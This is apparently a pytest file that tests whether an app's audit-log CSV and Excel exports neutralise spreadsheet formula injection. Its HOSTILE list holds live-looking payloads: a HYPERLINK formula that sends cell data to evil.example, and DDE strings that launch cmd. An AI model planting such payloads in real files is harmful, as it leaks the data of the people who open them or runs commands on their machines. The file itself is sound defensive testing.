"""Exports that cannot attack their reader: a CSV cell that a spreadsheet would take for a
formula (beginning with =, +, -, @, a tab or a carriage return) is written after a single
quote (OWASP, CSV injection), and the Excel workbook stores every text as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from app.audit.log import COLUMNS, as_csv, csv_safe
from app.cli.main import cli
from tests.builders import CITY, cmd, open_unit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_is_quoted(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["本溪市", "a=b", "2016-05-01", "", " =x", "'=already"])
def test_other_cells_are_written_as_they_are(cell: str) -> None:
    assert csv_safe(cell) == cell


def test_numbers_stay_numbers() -> None:
    assert csv_safe(-3) == -3 and csv_safe(12) == 12


def _row(text: str) -> dict[str, object]:
    row: dict[str, object] = dict.fromkeys(COLUMNS, text)
    row |= {"position": 7, "corrects": None, "corrected_by": [], "details": {"k": text}}
    return row


@pytest.mark.parametrize("cell", HOSTILE)
def test_every_text_column_of_the_audit_csv_is_neutralised(cell: str) -> None:
    (read,) = list(csv.DictReader(io.StringIO(as_csv([_row(cell)]), newline="")))
    texts = [c for c in COLUMNS if c not in ("position", "corrects", "corrected_by", "details")]
    for column in texts:
        assert read[column] == "'" + cell, column
    assert read["position"] == "7"
    assert json.loads(read["details"]) == {"k": cell}  # begins with "{": nothing to quote


def _store_with_hostile_reasons(db: str) -> None:
    runner = CliRunner()
    assert runner.invoke(cli, ["--db", db, "init"]).exit_code == 0
    units = [("210521", "本溪县"), ("210522", "桓仁县"), ("210502", "平山区"), ("210503", "溪湖区")]
    lines = [cmd("open_unit", on="2014-01-01", code=CITY, name="本溪市", level="city")]
    lines += [
        open_unit(code, name, "county", CITY, reason=reason)
        for (code, name), reason in zip(units, HOSTILE[:4], strict=True)
    ]
    text = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines)
    r = runner.invoke(cli, ["--db", db, "apply", "-"], input=text)
    assert r.exit_code == 0, r.output


def test_the_audit_csv_export_quotes_hostile_reasons(db_url: str, tmp_path: Path) -> None:
    _store_with_hostile_reasons(db_url)
    out = tmp_path / "audit.csv"
    r = CliRunner().invoke(cli, ["--db", db_url, "audit", "log", "--csv", "--out", str(out)])
    assert r.exit_code == 0, r.output
    reasons = [row["reason"] for row in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    for hostile in HOSTILE[:4]:
        assert "'" + hostile in reasons
    assert not any(reason[:1] in "=+-@" for reason in reasons)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ((), HOSTILE[:4]),  # the entries' reasons
        (("--as", HOSTILE[1], "--person", HOSTILE[0]), [HOSTILE[0], f"{HOSTILE[1]} (operator)"]),
    ],
)
def test_the_excel_export_stores_hostile_texts_as_text_never_as_formulas(
    db_url: str, tmp_path: Path, args: tuple[str, ...], expected: list[str]
) -> None:
    _store_with_hostile_reasons(db_url)
    out = tmp_path / "audit.xlsx"
    r = CliRunner().invoke(cli, ["--db", db_url, "audit", "log", "--xlsx", str(out), *args])
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    cells = [c for sheet in wb.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert text in texts
